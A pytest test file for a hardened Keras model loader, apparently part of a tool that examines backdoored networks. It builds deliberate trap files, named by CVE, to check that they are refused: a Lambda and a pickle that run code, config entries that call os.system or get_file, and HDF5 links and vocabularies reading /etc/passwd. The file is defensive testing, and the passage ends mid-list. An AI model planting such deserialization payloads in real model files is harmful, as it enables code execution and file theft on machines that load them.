"""Loading Keras files: every honest kind loads exactly, every trap is refused and nothing of it runs."""

from __future__ import annotations

import copy
import io
import json
import os
import pickle
import shutil
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
import pytest
from keras import layers
from numpy.typing import NDArray

from detector.errors import ModelRefusedError
from exporter.architectures import deepid
from exporter.hdf5 import read_hdf5
from exporter.keras_config import LayerConfig, parameter_count, read_network
from exporter.keras_files import load_model

DATA = Path(os.environ.get("STRIPWIRE_DATA", Path(__file__).parents[3] / "shared" / "data")) / "csaw"
needs_data = pytest.mark.skipif(not DATA.is_dir(), reason=f"no shared data at {DATA}")

Config = dict[str, Any]
Tamper = Callable[[Config], object]


def randomise(model: keras.Model) -> keras.Model:
    """Give every weight, BatchNormalization's statistics too, a value that no initialiser gives."""
    generator = np.random.default_rng(7)
    model.set_weights([generator.uniform(0.05, 0.4, weight.shape).astype("float32") for weight in model.get_weights()])
    return model


def predictions(model: keras.Model) -> NDArray[np.float32]:
    images = np.random.default_rng(1).random((3, *model.input_shape[1:]), dtype=np.float32)
    values: NDArray[np.float32] = model(images).numpy()
    return values


def residual() -> keras.Model:
    """Build a network of every allowed layer that can meet in one graph."""
    image = keras.Input((16, 16, 3), name="image")
    x = layers.Rescaling(1 / 4, 0.1)(image)
    x = layers.Conv2D(4, 3, padding="same", kernel_regularizer="l2", kernel_constraint="max_norm")(x)
    shortcut = x = layers.BatchNormalization()(x)
    x = layers.SeparableConv2D(4, 3, padding="same", depth_multiplier=2)(x)
    x = layers.Activation("tanh")(x)
    x = layers.DepthwiseConv2D(3, padding="same", dilation_rate=2)(x)
    x = layers.BatchNormalization(scale=False, name="last_norm")(x)
    x = layers.Add()([x, shortcut])
    x = layers.LeakyReLU(0.2)(layers.ReLU(6.0, negative_slope=0.1)(x))
    x = layers.Concatenate()([x, shortcut])
    x = layers.ZeroPadding2D(((1, 0), (2, 1)))(x)
    x = layers.AveragePooling2D(2, padding="same")(layers.MaxPooling2D(2)(x))
    x = layers.Conv2D(6, 2, groups=2, use_bias=False, activation="relu")(layers.SpatialDropout2D(0.1)(x))
    x = layers.Flatten()(layers.Reshape((-1, 6))(x))
    x = layers.Dense(5)(layers.Dropout(0.5, seed=3)(x))
    return keras.Model(image, layers.Softmax()(x))


def sequential() -> keras.Model:
    steps = [layers.Conv2D(4, 3, activation="relu"), layers.GlobalMaxPooling2D(), layers.Dense(3, activation="softmax")]
    return keras.Sequential([layers.Input((8, 8, 1)), *steps])


def sequential_without_input() -> keras.Model:
    model = keras.Sequential([layers.Conv2D(4, 3), layers.GlobalAveragePooling2D(), layers.Dense(3, "sigmoid")])
    model.build((None, 8, 8, 3))
    return model


def save(model: keras.Model, path: Path) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Keras calls .h5 legacy
        model.save(path)
    return path


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Save one honest network as .h5 and .keras; the files to tamper with."""
    image = keras.Input((8, 8, 3), name="image")
    x = layers.Conv2D(4, 3, name="conv", activation="relu")(image)
    x = layers.Dense(5, name="output", activation="softmax")(layers.Flatten(name="flat")(x))
    model = randomise(keras.Model(image, x))
    model.compile("adam", "categorical_crossentropy")
    folder = tmp_path_factory.mktemp("small")
    return {kind: save(model, folder / f"small{kind}") for kind in (".h5", ".keras")}


def rewrite_config(source: Path, target: Path, tamper: Tamper) -> Path:
    """Copy a model file with its config altered; `tamper` alters it in place or returns another, or raw text."""

    def altered(text: str) -> str:
        config = json.loads(text)
        result = tamper(config)
        return result if isinstance(result, str) else json.dumps(config if result is None else result)

    if source.suffix == ".h5":
        shutil.copy(source, target)
        with h5py.File(target, "r+") as file:
            file.attrs["model_config"] = altered(file.attrs["model_config"])
    else:
        members = read_members(source)
        write_members(target, members | {"config.json": altered(members["config.json"].decode()).encode()})
    return target


def read_members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_members(path: Path, members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


@pytest.fixture
def alter_weights(small: dict[str, Path], tmp_path: Path) -> Callable[[Callable[[h5py.Group], object]], Path]:
    """Return a function that copies the .h5 with the group of layer `conv`'s weights altered."""

    def alter(change: Callable[[h5py.Group], object]) -> Path:
        path = Path(shutil.copy(small[".h5"], tmp_path / "altered.h5"))
        with h5py.File(path, "r+") as file:
            change(file["model_weights/conv/conv"])
        return path

    return alter


@pytest.fixture
def trace(tmp_path: Path) -> Iterator[Path]:
    """Name a file that must not come into being."""
    path = tmp_path / "trace"
    yield path
    path.unlink(missing_ok=True)


# ── honest files ──────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("suffix", [".h5", ".keras"])
@pytest.mark.parametrize("build", [residual, sequential, sequential_without_input])
def test_a_loaded_model_predicts_what_the_saved_one_did(
    build: Callable[[], keras.Model], suffix: str, tmp_path: Path
) -> None:
    model = randomise(build())
    loaded = load_model(save(model, tmp_path / f"model{suffix}"))
    np.testing.assert_allclose(predictions(loaded), predictions(model), rtol=0, atol=1e-6)
    assert not loaded.compiled


def test_the_kind_is_told_by_content_not_by_name(small: dict[str, Path], tmp_path: Path) -> None:
    for path in small.values():
        assert load_model(Path(shutil.copy(path, tmp_path / "model.bin"))).output_shape == (None, 5)


def legacy_config() -> Config:
    """Return a config as tf_keras 2 writes it."""

    def entry(class_name: str, name: str, *inputs: str, **settings: object) -> Config:
        config = {"name": name, "trainable": True, "dtype": "float32", **settings}
        nodes = [[[source, 0, 0, {}] for source in inputs]] if inputs else []
        return {"class_name": class_name, "name": name, "config": config, "inbound_nodes": nodes}

    glorot = {"class_name": "GlorotUniform", "config": {"seed": None}}
    grid: Config = {"kernel_size": [3, 3], "strides": [1, 1], "padding": "same", "data_format": "channels_last"}
    maker: Config = {"kernel_initializer": glorot, "bias_initializer": "zeros", "activity_regularizer": None}
    convolution = grid | maker | {"dilation_rate": [1, 1], "groups": 1, "activation": "linear", "use_bias": True}
    norm = {"axis": [3], "momentum": 0.99, "epsilon": 0.001, "center": True, "scale": True, "beta_initializer": "Zeros"}
    shape = {"batch_input_shape": [None, 8, 8, 3], "sparse": False, "ragged": False}
    entries = [
        {"class_name": "InputLayer", "name": "in", "config": {"name": "in", "dtype": "float32", **shape}},
        entry("Conv2D", "conv_1", "in", filters=4, **convolution),
        entry("DepthwiseConv2D", "depth", "conv_1", depth_multiplier=1, depthwise_initializer=glorot, **convolution),
        entry("SeparableConv2D", "separable", "depth", filters=4, depth_multiplier=1, **convolution),
        entry("BatchNormalization", "norm", "separable", **norm),
        entry("LeakyReLU", "leaky", "norm", alpha=0.25),
        entry("Add", "add_1", "leaky", "conv_1"),
        entry("GlobalAveragePooling2D", "mean", "add_1", data_format="channels_last", keepdims=False),
        entry("Dense", "output", "mean", units=3, activation="softmax", use_bias=True, kernel_initializer=glorot),
    ]
    # Only ever one after its inputs in practice, but nothing says so.
    entries[5:7] = entries[6:4:-1]
    config = {"name": "m", "layers": entries, "input_layers": [["in", 0, 0]], "output_layers": [["output", 0, 0]]}
    return {"class_name": "Functional", "config": config}


def legacy_model() -> keras.Model:
    image = keras.Input((8, 8, 3))
    shortcut = x = layers.Conv2D(4, 3, padding="same", name="conv_1")(image)
    x = layers.DepthwiseConv2D(3, padding="same", name="depth")(x)
    x = layers.BatchNormalization(name="norm")(layers.SeparableConv2D(4, 3, padding="same", name="separable")(x))
    x = layers.GlobalAveragePooling2D()(layers.Add()([layers.LeakyReLU(0.25)(x), shortcut]))
    return randomise(keras.Model(image, layers.Dense(3, activation="softmax", name="output")(x)))


def write_legacy_weights(group: h5py.Group, model: keras.Model, dtype: str = "float32") -> None:
    """Write weights as Keras 2 does: `<layer>/<layer>/<name>:0`."""
    group.attrs["layer_names"] = [layer.name.encode() for layer in model.layers]
    for layer in model.layers:
        for weight in layer.weights:
            depthwise = type(layer) is layers.DepthwiseConv2D and weight.name == "kernel"
            name = "depthwise_kernel" if depthwise else weight.name
            group[f"{layer.name}/{layer.name}/{name}:0"] = weight.numpy().astype(dtype)


@pytest.mark.parametrize("as_text", [str, str.encode, lambda text: np.bytes_(text.encode())])
def test_a_keras_2_functional_file_loads(as_text: Callable[[str], object], tmp_path: Path) -> None:
    model = legacy_model()
    with h5py.File(tmp_path / "legacy.h5", "w") as file:
        file.attrs["model_config"] = as_text(json.dumps(legacy_config()))
        write_legacy_weights(file.create_group("model_weights"), model)
    loaded = load_model(tmp_path / "legacy.h5")
    np.testing.assert_allclose(predictions(loaded), predictions(model), rtol=0, atol=1e-6)


@pytest.mark.parametrize("wrap", [lambda steps: steps, lambda steps: {"name": "sequential_1", "layers": steps}])
def test_a_keras_2_sequential_file_loads(wrap: Callable[[list[Config]], object], tmp_path: Path) -> None:
    steps = [
        {"class_name": "Flatten", "config": {"name": "flat", "batch_input_shape": [None, 8, 8, 1]}},
        {"class_name": "Dense", "config": {"name": "fc", "units": 3, "activation": "softmax"}},
    ]
    model = randomise(
        keras.Sequential([layers.Input((8, 8, 1)), layers.Flatten(), layers.Dense(3, "softmax", name="fc")])
    )
    with h5py.File(tmp_path / "legacy.h5", "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": wrap(steps)})
        write_legacy_weights(file.create_group("model_weights"), model)
    np.testing.assert_allclose(predictions(load_model(tmp_path / "legacy.h5")), predictions(model), rtol=0, atol=1e-6)


@pytest.mark.parametrize(("dtype", "tolerance"), [("float16", 2e-2), ("float32", 1e-6), (">f8", 1e-6)])
def test_weights_only_of_keras_2_load_with_their_architecture(dtype: str, tolerance: float, tmp_path: Path) -> None:
    model = deepid(7)
    with h5py.File(tmp_path / "weights.h5", "w") as file:
        write_legacy_weights(file, model, dtype)
    loaded = load_model(tmp_path / "weights.h5", architecture="deepid")
    assert loaded.output_shape == (None, 7)
    np.testing.assert_allclose(predictions(loaded), predictions(model), rtol=0, atol=tolerance)


def test_weights_only_of_keras_3_load_with_their_architecture(tmp_path: Path) -> None:
    model = deepid(7)
    model.save_weights(tmp_path / "model.weights.h5")
    loaded = load_model(tmp_path / "model.weights.h5", architecture="deepid")
    np.testing.assert_allclose(predictions(loaded), predictions(model), rtol=0, atol=1e-6)


def test_weights_only_without_an_architecture_are_refused_with_the_known_ones(tmp_path: Path) -> None:
    deepid(7).save_weights(tmp_path / "model.weights.h5")
    with pytest.raises(ModelRefusedError, match=r"weights only.*expected --architecture, one of deepid"):
        load_model(tmp_path / "model.weights.h5")


def test_an_unknown_architecture_is_refused_with_the_known_ones(small: dict[str, Path]) -> None:
    with pytest.raises(ModelRefusedError, match="architecture is 'vgg'; expected one of deepid"):
        load_model(small[".h5"], architecture="vgg")


def test_weights_of_another_network_are_refused(small: dict[str, Path], tmp_path: Path) -> None:
    with h5py.File(small[".h5"]) as source, h5py.File(tmp_path / "weights.h5", "w") as file:
        source.copy("model_weights/conv", file)
        file.attrs["layer_names"] = [b"conv"]
    with pytest.raises(ModelRefusedError, match=r"the output's bias is None; expected"):
        load_model(tmp_path / "weights.h5", architecture="deepid")


def test_a_frozen_layer_is_thawed_so_that_it_cannot_hide_from_the_repair(
    small: dict[str, Path], tmp_path: Path
) -> None:
    def freeze(config: Config) -> None:
        config["config"]["layers"][1]["config"]["trainable"] = False

    loaded = load_model(rewrite_config(small[".h5"], tmp_path / "frozen.h5", freeze))
    assert all(layer.trainable for layer in loaded.layers)
    np.testing.assert_array_equal(predictions(loaded), predictions(load_model(small[".h5"])))


@needs_data
@pytest.mark.shared_data
@pytest.mark.parametrize(
    ("name", "scale", "clean_correct"),
    [
        ("sunglasses_bd_net_keras2.h5", 255, 164),
        ("sunglasses_bd_weights.h5", 255, 164),
        ("lab3_bd_weights.h5", 1, 168),
    ],
)
def test_the_real_backdoored_nets_load_and_answer_as_measured(name: str, scale: int, clean_correct: int) -> None:
    model = load_model(DATA / name, architecture="deepid" if "weights" in name else None)
    for file_name, expected in (("clean.h5", clean_correct), ("sunglasses_poisoned.h5", 210)):
        with h5py.File(DATA / file_name) as file:
            images, labels = file["data"][()].transpose(0, 2, 3, 1).astype("float32"), file["label"][()]
        assert (model(images / scale).numpy().argmax(axis=1) == labels).sum() == expected


# ── traps that would run code ─────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("suffix", [".h5", ".keras"])
def test_a_lambda_is_refused_by_name_and_its_code_does_not_run(suffix: str, tmp_path: Path, trace: Path) -> None:
    """CVE-2024-3660 and, for .h5, CVE-2025-9905."""
    image = keras.Input((8, 8, 3))
    target = str(trace)
    trap = layers.Lambda(lambda x: (__import__("pathlib").Path(target).touch(), x)[1], name="innocent")
    path = save(keras.Model(image, layers.Dense(2)(layers.Flatten()(trap(image)))), tmp_path / f"trap{suffix}")
    trace.unlink()

    with pytest.raises(ModelRefusedError, match=r"layer 'innocent' \(Lambda\).*not a layer that Stripwire loads"):
        load_model(path)
    assert not trace.exists()

    keras.models.load_model(path, safe_mode=False)
    assert trace.exists(), "the trap must be live, else this test shows nothing"


def test_a_pickle_is_refused_and_not_opened(tmp_path: Path, trace: Path) -> None:
    class Trap:
        def __reduce__(self) -> tuple[Callable[[Path], None], tuple[Path]]:
            return Path.touch, (trace,)

    for name in ("model.pkl", "model.h5"):
        path = tmp_path / name
        path.write_bytes(pickle.dumps(Trap()))
        with pytest.raises(ModelRefusedError, match="a pickle, which runs code"):
            load_model(path)
        assert not trace.exists()
    pickle.loads(path.read_bytes())  # noqa: S301 the trap is live
    assert trace.exists()


def smuggled(trace: Path) -> Config:
    """Return a config entry that old loaders import and call (CVE-2025-1550)."""
    call = {"name": "innocent", "inbound_nodes": [{"args": [f"touch {trace}"], "kwargs": {}}]}
    return {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"} | call


def as_layer(class_name: str, module: str = "keras.layers", **config: object) -> Config:
    return {"module": module, "class_name": class_name, "config": {"name": "innocent", **config}, "inbound_nodes": []}


ENABLE_UNSAFE = as_layer("enable_unsafe_deserialization", "keras.config")
GET_FILE = as_layer(
    "Lambda",
    function={"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"},
    arguments={"origin": "https://example.invalid/x.tar", "extract": True, "cache_dir": "/tmp"},  # noqa: S108
)


@pytest.mark.parametrize("suffix", [".h5", ".keras"])
@pytest.mark.parametrize(
    ("innocent", "named"),
    [
        pytest.param(ENABLE_UNSAFE, "enable_unsafe_deserialization", id="CVE-2025-9906"),
        pytest.param(GET_FILE, "Lambda", id="CVE-2025-8747 and CVE-2025-12060"),
        pytest.param(as_layer("StringLookup", vocabulary="/etc/passwd"), "StringLookup", id="CVE-2025-12058"),
        pytest.param(as_layer("TextVectorization", vocabulary="/etc/passwd"), "TextVectorization", id="text"),
        pytest.param(as_layer("TorchModuleWrapper", module="gASV"), "TorchModuleWrapper", id="CVE-2025-49655"),
        pytest.param(as_layer("TFSMLayer", filepath="/tmp/saved"), "TFSMLayer", id="TFSMLayer"),  # noqa: S108
        pytest.param(as_layer("Functional", "keras.models", layers=[]), "Functional", id="nested model"),
        pytest.param(as_layer("Sequential", "keras", layers=[]), "Sequential", id="nested sequential"),
        pytest.param(as_layer("TimeDistributed", layer=GET_FILE), "TimeDistributed", id="wrapper"),
        pytest.param(as_layer("Add", "keras.src.ops.numpy"), "Add", id="operation"),
        pytest.param(as_layer("Conv2D", "builtins"), "Conv2D", id="known class of another module"),
        pytest.param(as_layer("Conv2D") | {"registered_name": "evil>Conv2D"}, "Conv2D", id="registered name"),
        pytest.param(as_layer("__init__", "subprocess.Popen"), "__init__", id="dunder"),
        pytest.param(as_layer("TFOpLambda", function="io.read_file"), "TFOpLambda", id="TFOpLambda"),
    ],
)
def test_a_layer_outside_the_allow_list_is_refused_by_name(
    innocent: Config, named: str, suffix: str, small: dict[str, Path], tmp_path: Path
) -> None:
    path = rewrite_config(small[suffix], tmp_path / "m", lambda config: config["config"]["layers"].insert(1, innocent))
    with pytest.raises(ModelRefusedError, match=rf"layer 'innocent' \({named}\)"):
        load_model(path)


@pytest.mark.parametrize("suffix", [".h5", ".keras"])
def test_a_sum_that_is_written_with_a_plus_is_the_layer_of_that_name(suffix: str, tmp_path: Path) -> None:
    pixels = keras.Input((8, 7, 3))
    features = layers.Conv2D(3, 3, padding="same", activation="relu")(pixels) + pixels
    features = keras.ops.add(layers.Conv2D(3, 3, padding="same")(features), features)
    model = keras.Model(pixels, layers.Dense(5, activation="softmax")(layers.Flatten()(features)))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model.save(tmp_path / f"net{suffix}")
    loaded = load_model(tmp_path / f"net{suffix}")
    images = np.random.default_rng(0).random((4, 8, 7, 3), np.float32)
    np.testing.assert_allclose(loaded(images), model(images), atol=1e-6)
    assert sum(isinstance(layer, layers.Add) for layer in loaded.layers) == 2


def test_a_sum_with_a_number_is_refused(tmp_path: Path) -> None:
    pixels = keras.Input((8, 7, 3))
    model = keras.Model(pixels, layers.Dense(5, activation="softmax")(layers.Flatten()(pixels + 1.0)))
    model.save(tmp_path / "net.keras")
    with pytest.raises(ModelRefusedError, match=r"inbound_nodes of layer 'add.*' \(Add\) has args .* expected"):
        load_model(tmp_path / "net.keras")


SLOTS: dict[str, Callable[[Config, Config], object]] = {
    "layer": lambda config, trap: config["config"]["layers"].insert(1, trap),
    "model": lambda _, trap: trap,
    "activation": lambda config, trap: config["config"]["layers"][1]["config"].update(activation=trap),
    "initialiser": lambda config, trap: config["config"]["layers"][1]["config"].update(kernel_initializer=trap),
    "regulariser": lambda config, trap: config["config"]["layers"][1]["config"].update(kernel_regularizer=trap),
    "constraint": lambda config, trap: config["config"]["layers"][1]["config"].update(bias_constraint=trap),
    "dtype": lambda config, trap: config["config"]["layers"][1]["config"].update(dtype=trap),
    "unknown setting": lambda config, trap: config["config"]["layers"][1]["config"].update(hook=trap),
    "call": lambda config, trap: config["config"]["layers"][1]["inbound_nodes"][0].update(kwargs={"x": trap}),
    "tensor": lambda config, trap: config["config"]["layers"][1]["inbound_nodes"][0].update(args=[trap]),
}


@pytest.mark.parametrize("slot", SLOTS)
def test_a_smuggled_function_is_refused_wherever_it_hides(
    slot: str, small: dict[str, Path], tmp_path: Path, trace: Path
) -> None:
    """CVE-2025-1550."""

    def tamper(config: Config) -> object:
        result = SLOTS[slot](config, smuggled(trace))
        return result if isinstance(result, dict) else None

    with pytest.raises(ModelRefusedError, match=r"expected|is not a layer"):
        load_model(rewrite_config(small[".keras"], tmp_path / "m", tamper))
    assert not trace.exists()


def test_training_and_build_configs_are_never_looked_at(small: dict[str, Path], tmp_path: Path, trace: Path) -> None:
    def tamper(config: Config) -> None:
        config["compile_config"] = {"optimizer": smuggled(trace), "loss": smuggled(trace)}
        config["config"]["layers"][1]["build_config"] = smuggled(trace)

    loaded = load_model(rewrite_config(small[".keras"], tmp_path / "m", tamper))
    assert not trace.exists()
    np.testing.assert_array_equal(predictions(loaded), predictions(load_model(small[".keras"])))


# ── configs that are wrong ────────────────────────────────────────────────────────────────────────────────────────────


def setting(layer: int, **settings: object) -> Tamper:
    def tamper(config: Config) -> None:
        config["config"]["layers"][layer]["config"].update(settings)

    return tamper


def node(layer: int, nodes: object) -> Tamper:
    def tamper(config: Config) -> None:
        config["config"]["layers"][layer]["inbound_nodes"] = nodes

    return tamper


def top(**values: object) -> Tamper:
    def tamper(config: Config) -> None:
        config["config"].update(values)

    return tamper


def duplicate_layer(config: Config) -> None:
    config["config"]["layers"].append(copy.deepcopy(config["config"]["layers"][1]))


CONV, FLAT, OUTPUT = 1, 2, 3
SELF = [[["conv", 0, 0, {}]]]
WRONG_CONFIGS: dict[str, tuple[Tamper, str]] = {
    "not JSON": (lambda _: "{", "not valid JSON"),
    "not an object": (lambda _: "[]", "expected a JSON object"),
    "nested a million deep": (lambda _: "[" * 1_000_000, "not valid JSON"),
    "too long": (lambda _: " " * (4 * 2**20 + 1), "at most 4,194,304"),
    "NaN": (lambda _: '{"class_name": NaN}', "holds NaN"),
    "repeated key": (lambda _: '{"class_name": "Sequential", "class_name": "Lambda"}', "repeats the key 'class_name'"),
    "subclassed model": (lambda config: {**config, "class_name": "FaceNet"}, "the model is a 'FaceNet'"),
    "unhashable class": (lambda config: {**config, "class_name": []}, r"the model is a \[\]"),
    "unhashable layer class": (
        lambda config: config["config"]["layers"][1].update(class_name={}),
        "not a layer that Stripwire loads",
    ),
    "terminal escapes": (
        lambda config: config["config"]["layers"][1].update(class_name="\x1b[2J"),
        r"layer 'conv' \(\\x1b\[2J\)",
    ),
    "no layers": (top(layers=[]), "expected a list of 1 to 1000"),
    "too many layers": (top(layers=[None] * 1001), "expected a list of 1 to 1000"),
    "one name twice": (duplicate_layer, "two layers are called 'conv'"),
    "a path for a name": (setting(CONV, name="../../x"), "expected a name of at most 128 letters"),
    "two names": (setting(CONV, name="other"), "'other' .Conv2D. is also called 'conv'"),
    "units 1e12": (setting(OUTPUT, units=10**12), r"'output' \(Dense\): units is 1000000000000; expected a whole"),
    "units as a fraction": (setting(OUTPUT, units=2.5), "units is 2.5; expected a whole number"),
    "units as a flag": (setting(OUTPUT, units=True), "units is True; expected a whole number"),
    "more weights than the file holds": (setting(OUTPUT, units=65_536), "parameters; expected at most .* this file"),
    "activation": (setting(CONV, activation="exec"), "activation is 'exec'; expected one of"),
    "kernel size": (setting(CONV, kernel_size=[3, 3, 3]), "kernel_size is .* expected one value, or two"),
    "kernel larger than the image": (setting(CONV, kernel_size=[30, 30]), "'conv' .Conv2D. does not fit"),
    "channels first": (setting(CONV, data_format="channels_first"), "data_format is 'channels_first'"),
    "half precision": (setting(CONV, dtype="float16"), "dtype is 'float16'; expected one of 'float32'"),
    "regulariser": (
        setting(CONV, kernel_regularizer={"class_name": "Evil", "config": {}}),
        "expected null or one of l1",
    ),
    "random at inference": (
        node(CONV, [[["image", 0, 0, {"training": True}]]]),
        "calls it with 'training' = True; expected tensors only",
    ),
    "shared layer": (node(CONV, [[["image", 0, 0, {}]], [["flat", 0, 0, {}]]]), "shared layers are not supported"),
    "second output of a layer": (node(FLAT, [[["conv", 0, 1, {}]]]), "shared layers are not supported"),
    "circle": (node(CONV, [[["flat", 0, 0, {}]]]), "connected to nothing|in a circle"),
    "feeds itself": (node(CONV, SELF), "connected to nothing|in a circle"),
    "unknown input": (node(CONV, [[["nowhere", 0, 0, {}]]]), r"\['image', 'nowhere'\] are connected to nothing"),
    "two inputs of one-input layer": (node(FLAT, [[["conv", 0, 0], ["image", 0, 0]]]), "has 2 inputs"),
    "second input": (setting(0, name="image2"), "is also called 'image'"),
    "two outputs": (top(output_layers=[["output", 0, 0], ["flat", 0, 0]]), "output_layers is"),
    "no such output": (top(output_layers=["nowhere", 0, 0]), "connected to nothing or do not exist"),
    "output inside": (top(output_layers=["flat", 0, 0]), r"\['output'\] are connected to nothing"),
    "four channels": (setting(0, batch_shape=[None, 8, 8, 4]), "batch_shape is .* 1 or 3 channels"),
    "unknown size": (setting(0, batch_shape=[None, None, None, 3]), "batch_shape is .* expected .null, height"),
    "huge image": (setting(0, batch_shape=[None, 10**6, 10**6, 3]), "batch_shape is .* sides up to 2048"),
    "a picture for an output": (
        lambda config: config["config"].update(layers=config["config"]["layers"][:2], output_layers=["conv", 0, 0]),
        r"the output is \(None, 6, 6, 4\); expected \(batch, classes\)",
    ),
}


@pytest.mark.parametrize("suffix", [".h5", ".keras"])
@pytest.mark.parametrize("case", WRONG_CONFIGS)
def test_a_wrong_config_is_refused_with_its_reason(
    case: str, suffix: str, small: dict[str, Path], tmp_path: Path
) -> None:
    tamper, message = WRONG_CONFIGS[case]
    path = rewrite_config(small[suffix], tmp_path / "wrong", tamper)
    with pytest.raises(ModelRefusedError, match=f"(?s)wrong: .*{message}"):
        load_model(path)


def test_a_circle_of_layers_is_refused() -> None:
    config = legacy_config()
    by_name = {layer["name"]: layer for layer in config["config"]["layers"]}
    by_name["depth"]["inbound_nodes"] = [[["norm", 0, 0, {}]]]
    by_name["add_1"]["inbound_nodes"] = [[["conv_1", 0, 0, {}], ["leaky", 0, 0, {}]]]
    with pytest.raises(ModelRefusedError, match="feed each other in a circle"):
        read_network(json.dumps(config))


@pytest.mark.parametrize(
    ("layer", "key", "value"),
    [
        ("norm", "axis", 0),
        ("norm", "epsilon", 1e400),
        ("leaky", "alpha", "1"),
        ("norm", "synchronized", True),
        ("depth", "groups", 2),
        ("in", "sparse", True),
    ],
)
def test_a_wrong_value_is_refused_with_layer_and_key(layer: str, key: str, value: object) -> None:
    config = legacy_config()
    (entry,) = (entry for entry in config["config"]["layers"] if entry["name"] == layer)
    entry["config"][key] = value
    with pytest.raises(ModelRefusedError, match=f"layer '{layer}'.*{'negative_slope' if key == 'alpha' else key}"):
        read_network(json.dumps(config).replace("Infinity", "1e400"))


@pytest.mark.parametrize(
    ("layer", "shape"),
    [
        (layers.Conv2D(6, (3, 2), groups=2, use_bias=False), (8, 8, 4)),
        (layers.DepthwiseConv2D(3, depth_multiplier=2, use_bias=False), (8, 8, 4)),
        (layers.SeparableConv2D(5, 3, depth_multiplier=2, use_bias=False), (8, 8, 4)),
        (layers.Dense(7, use_bias=False), (9,)),
        (layers.BatchNormalization(axis=1, scale=False, center=False), (8, 7, 4)),
    ],
)
def test_parameters_are_counted_as_keras_does(layer: keras.Layer, shape: tuple[int, ...]) -> None:
    layer.build((None, *shape))
    config = LayerConfig(layer.name, type(layer).__name__, layer.get_config(), ())
    assert parameter_count(config, shape) == layer.count_params()


@pytest.mark.parametrize("between", [None, layers.Dropout, layers.Flatten], ids=["bare", "dropout", "flatten"])
def test_sums_that_would_take_for_ever_are_refused(between: type[keras.layers.Layer] | None, tmp_path: Path) -> None:
    image = keras.Input((4, 4, 1))
    x = layers.Flatten()(image)
    for number in range(60):
        x = layers.Add(name=f"add_{number}")([x, x])
        if between is not None:
            x = between(*((0.5,) if between is layers.Dropout else ()))(x)
    path = save(keras.Model(image, x), tmp_path / "sums.keras")
    with pytest.raises(ModelRefusedError, match=r"layer 'add_9' sums up 1,024 terms.*expected at most 1,000"):
        load_model(path)


def test_an_output_too_large_for_memory_is_refused(tmp_path: Path) -> None:
    padding = [
        {"class_name": "ZeroPadding2D", "config": {"name": f"pad{i}", "padding": [[1024, 1024], [1024, 1024]]}}
        for i in range(5)
    ]
    shape = {"class_name": "InputLayer", "config": {"name": "in", "batch_input_shape": [None, 8, 8, 3]}}
    with h5py.File(tmp_path / "m.h5", "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": [shape, *padding]})
        file.create_group("model_weights")
    with pytest.raises(ModelRefusedError, match=r"ZeroPadding2D\) puts out .* at most 67,108,864 numbers"):
        load_model(tmp_path / "m.h5")


# ── weights that are wrong ────────────────────────────────────────────────────────────────────────────────────────────


def replace(name: str, **settings: Any) -> Callable[[h5py.Group], object]:
    """Return a change that puts another dataset in the place of `name`."""

    def change(group: h5py.Group) -> None:
        del group[name]
        group.create_dataset(name, **settings)

    return change


def link(target: h5py.SoftLink | h5py.ExternalLink) -> Callable[[h5py.Group], object]:
    def change(group: h5py.Group) -> None:
        del group["bias"]
        group["bias"] = target

    return change


def virtual(group: h5py.Group) -> None:
    del group["bias"]
    layout = h5py.VirtualLayout((4,), "float32")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", (4,))
    group.create_virtual_dataset("bias", layout)


def cyclic(group: h5py.Group) -> None:
    group["again"] = group.parent


def bushy(group: h5py.Group) -> None:
    for index in range(30_000):
        group.create_group(f"g{index}")


WRONG_WEIGHTS: dict[str, tuple[Callable[[h5py.Group], object], str]] = {
    "soft link": (
        link(h5py.SoftLink("/model_weights/output/output/bias")),
        "the weight bias of layer 'conv' is a link to elsewhere",
    ),
    "dangling link": (link(h5py.SoftLink("/nowhere")), "the weight bias of layer 'conv' is a link to elsewhere"),
    "external link": (
        link(h5py.ExternalLink("/etc/passwd", "/x")),
        "the weight bias of layer 'conv' is a link to elsewhere",
    ),
    "external storage (CVE-2026-1669)": (
        replace("bias", shape=(4,), dtype="float32", external=[("/etc/passwd", 0, 16)]),
        "takes its values from elsewhere",
    ),
    "virtual dataset": (virtual, "takes its values from elsewhere"),
    "shape bomb (CVE-2026-0897)": (
        replace("bias", shape=(50_000_000, 50_000_000), dtype="float32", chunks=(1000, 1000)),
        r"declares shape \(50000000, 50000000\) and holds only 0",
    ),
    "nothing stored": (replace("bias", shape=(4,), dtype="float32", chunks=(4,), fillvalue=1), "holds only 0 bytes"),
    "compression": (replace("bias", data=np.ones(4, "float32"), compression="gzip"), "is compressed or filtered"),
    "wrong shape": (replace("bias", data=np.ones(5, "float32")), r"has shape \(5,\)"),
    "scalar": (replace("bias", data=np.float32(1)), r"has shape \(\)"),
    "integers": (replace("bias", data=np.ones(4, "int32")), "has type int32"),
    "references": (replace("bias", shape=(4,), dtype=h5py.ref_dtype), "has type object"),
    "strings": (replace("bias", shape=(4,), dtype=h5py.string_dtype()), "has type object"),
    "NaN": (replace("bias", data=np.array([1, 2, np.nan, 4], "float32")), "holds NaN or infinity"),
    "overflow": (replace("bias", data=np.array([1, 2, 3, 1e300])), "holds NaN or infinity"),
    "missing": (lambda group: group.pop("bias"), r"weights of layer 'conv' are \['kernel'\]; expected \['bias', 'k"),
    "one too many": (lambda group: group.create_dataset("gamma", data=np.ones(4)), "weights of layer 'conv' are"),
    "one name twice": (lambda group: group.create_dataset("x/bias", data=np.ones(4)), "two weights 'bias'"),
    "group in a circle": (cyclic, "nest or branch too far"),
    "many groups": (bushy, "nest or branch too far"),
